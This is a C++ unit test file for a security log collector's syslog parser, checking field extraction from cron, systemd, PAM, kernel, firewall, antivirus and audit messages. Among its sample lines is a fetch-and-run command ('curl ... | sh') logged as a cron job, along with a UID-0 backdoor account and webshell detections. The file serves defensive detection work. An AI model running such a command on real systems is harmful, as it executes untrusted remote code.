#include "tests/unit/collectors/log/read.hpp"

namespace kentongan::log {
namespace {

class SystemMessages : public testing::Test {
  protected:
    const Event& from(std::string_view tag, std::string_view message) {
        return read_("Nov 27 16:31:05 jkt-01 " + std::string(tag) + ": " + std::string(message));
    }
    Reader read_{"syslog"};
};

TEST_F(SystemMessages, CronSaysWhoRunsWhat) {
    const Event& e = from("CRON[99]", "(www-data) CMD (curl -s http://203.0.113.9/x | sh)");
    EXPECT_EQ(said(e, "event.action"), "cron-command");
    EXPECT_EQ(said(e, "user.name"), "www-data");
    EXPECT_EQ(said(e, "process.command_line"), "curl -s http://203.0.113.9/x | sh");
    EXPECT_EQ(e.logsource.service, "cron");
    from("crontab[7]", "(root) REPLACE (budi)");
    EXPECT_EQ(said(read_.event, "event.action"), "cron-replace");
    EXPECT_EQ(said(read_.event, "user.target.name"), "budi");
    EXPECT_FALSE(from("CRON[99]", "something else").has(Field::event_action));
}

TEST_F(SystemMessages, SystemdNamesUnitsInBothStyles) {
    const Event& e = from("systemd[1]", "Stopped auditd.service - Security Auditing Service.");
    EXPECT_EQ(said(e, "event.action"), "unit-stopped");
    EXPECT_EQ(said(e, "systemd.unit"), "auditd.service");
    from("systemd[1]", "nginx.service: Failed with result 'exit-code'.");
    EXPECT_EQ(said(read_.event, "event.action"), "unit-failed");
    EXPECT_EQ(said(read_.event, "event.outcome"), "failure");
    EXPECT_EQ(said(read_.event, "systemd.unit"), "nginx.service");
    from("systemd[1]", "Started Session 12 of user budi.");
    EXPECT_EQ(said(read_.event, "event.action"), "unit-started");
    EXPECT_FALSE(read_.event.has(Field::systemd_unit));
    EXPECT_EQ(read_.event.logsource.service, "syslog") << "where Sigma's rules on units look";
}

TEST_F(SystemMessages, AccountToolsNameWhomTheyChanged) {
    struct Case {
        std::string_view tag, message, action, user, group;
    };
    for (const auto& [tag, message, action, user, group] :
         {Case{"useradd[5]", "new user: name=eve, UID=0, GID=0, home=/root, shell=/bin/sh",
               "user-added", "eve", ""},
          Case{"groupadd[5]", "new group: name=ops, GID=1002", "group-added", "", "ops"},
          Case{"usermod[5]", "add 'eve' to group 'sudo'", "user-added-to-group", "eve", "sudo"},
          Case{"usermod[5]", "add 'eve' to shadow group 'sudo'", "user-added-to-group", "eve",
               "sudo"},
          Case{"usermod[5]", "change user 'eve' password", "password-changed", "eve", ""},
          Case{"userdel[5]", "delete user 'eve'", "user-deleted", "eve", ""},
          Case{"gpasswd[5]", "user eve added by root to group docker", "user-added-to-group", "eve",
               "docker"},
          Case{"passwd[5]", "pam_unix(passwd:chauthtok): password changed for eve",
               "password-changed", "eve", ""}}) {
        const Event& e = from(tag, message);
        EXPECT_EQ(said(e, "event.action"), action) << message;
        EXPECT_EQ(said(e, "user.target.name"), user) << message;
        EXPECT_EQ(said(e, "group.name"), group) << message;
        EXPECT_EQ(e.logsource.service, "auth") << message;
    }
}

TEST_F(SystemMessages, PamSessionsAreNoAttempts) {
    const Event& e = from("sshd[5]",
                          "pam_unix(sshd:session): session opened for user budi(uid=1000)"
                          " by (uid=0)");
    EXPECT_EQ(e.kind, EventKind::log);
    EXPECT_EQ(said(e, "event.action"), "session-opened");
    EXPECT_EQ(said(e, "user.name"), "budi");
    from("sudo", "pam_unix(sudo:session): session opened for user root(uid=0) by budi(uid=1000)");
    EXPECT_EQ(said(read_.event, "user.name"), "budi");
    EXPECT_EQ(said(read_.event, "user.effective.name"), "root");
    from("login[5]",
         "pam_faillock(login:auth): Consecutive login failures for user eve account "
         "temporarily locked");
    EXPECT_EQ(said(read_.event, "event.action"), "account-locked");
    EXPECT_EQ(said(read_.event, "user.name"), "eve");
}

TEST_F(SystemMessages, AnyServicesPamFailureCounts) {
    const Event& e = from("dovecot",
                          "pam_ldap(dovecot:auth): authentication failure; logname= uid=0 "
                          "euid=0 tty=dovecot ruser=eve rhost=203.0.113.9 user=eve");
    EXPECT_EQ(e.kind, EventKind::auth);
    EXPECT_EQ(said(e, "event.outcome"), "failure");
    EXPECT_EQ(said(e, "user.name"), "eve");
    EXPECT_EQ(said(e, "pam_rhost"), "203.0.113.9");
}

TEST_F(SystemMessages, TheKernelNamesProcessesAndPackets) {
    const Event& e = from("kernel",
                          "[12345.678901] php-fpm[812]: segfault at 0 ip 0000 sp 0000 "
                          "error 4 in libphp.so[7f00+1000]");
    EXPECT_EQ(said(e, "event.action"), "segfault");
    EXPECT_EQ(e.get(Field::process_pid).integer(), 812);
    from("kernel", "[1.5] device eth0 entered promiscuous mode");
    EXPECT_EQ(said(read_.event, "event.action"), "promiscuous-on");
    EXPECT_EQ(said(read_.event, "observer.ingress.interface.name"), "eth0");
    from("kernel", "Out of memory: Killed process 901 (postgres) total-vm:1kB");
    EXPECT_EQ(said(read_.event, "event.action"), "oom-kill");
    const Event& packet =
        from("kernel",
             "[99.1] [UFW BLOCK] IN=eth0 OUT= MAC=00:11 SRC=203.0.113.9 DST=10.0.0.5 LEN=40 "
             "PROTO=TCP SPT=4711 DPT=22 WINDOW=1024 SYN");
    EXPECT_EQ(packet.logsource.category, "firewall");
    EXPECT_EQ(said(packet, "event.action"), "packet-refused");
    EXPECT_EQ(said(packet, "source.ip"), "203.0.113.9");
    EXPECT_EQ(said(packet, "destination.port"), "22");
    EXPECT_EQ(said(packet, "network.transport"), "tcp");
}

TEST_F(SystemMessages, ServersTellTheirOwnStories) {
    from("vsftpd[3]", "[budi] OK LOGIN: Client \"::ffff:203.0.113.9\"");
    EXPECT_EQ(read_.event.kind, EventKind::auth);
    EXPECT_EQ(said(read_.event, "source.ip"), "203.0.113.9");
    from("vsftpd[3]", "[budi] FAIL LOGIN: Client \"203.0.113.9\"");
    EXPECT_EQ(read_.event.kind, EventKind::log) << "PAM's line beside it counts";
    EXPECT_EQ(said(read_.event, "event.outcome"), "failure");
    from("clamd[3]", "/srv/upload/x.php: Php.Webshell.Generic-1(d41d:12) FOUND");
    EXPECT_EQ(read_.event.logsource.category, "antivirus");
    EXPECT_EQ(read_.event.logsource.service, "clamav");
    EXPECT_EQ(said(read_.event, "Signature"), "Php.Webshell.Generic-1");
    EXPECT_EQ(said(read_.event, "Filename"), "/srv/upload/x.php");
    from("fail2ban.actions[3]", "NOTICE [sshd] Ban 203.0.113.9");
    EXPECT_EQ(said(read_.event, "event.action"), "ban");
    EXPECT_EQ(said(read_.event, "rule.name"), "sshd");
    from("named[3]", "client @0x7f1 203.0.113.9#4711 (kpu.example): query (cache) denied");
    EXPECT_EQ(said(read_.event, "source.port"), "4711");
    EXPECT_EQ(said(read_.event, "dns.question.name"), "kpu.example");
    EXPECT_EQ(read_.event.logsource.service, "syslog") << "where Sigma's rule on named looks";
}

TEST_F(SystemMessages, AuditRecordsInSyslogAreAuditRecords) {
    const Event& e = from("kernel",
                          "[9.1] audit: type=1400 audit(1732699865.120:37): "
                          "apparmor=\"DENIED\" operation=\"open\" name=\"/etc/shadow\"");
    EXPECT_EQ(e.logsource.service, "auditd");
    EXPECT_EQ(said(e, "type"), "AVC");
    EXPECT_EQ(said(e, "apparmor"), "DENIED");
    EXPECT_EQ(said(e, "host.hostname"), "jkt-01");
    from("audispd",
         "node=db-01 type=USER_CMD msg=audit(1732699865.120:38): pid=1 uid=1000 "
         "msg='cwd=\"/\" cmd=6964 terminal=pts/0 res=success'");
    EXPECT_EQ(said(read_.event, "process.command_line"), "id");
}

}  // namespace
}  // namespace kentongan::log
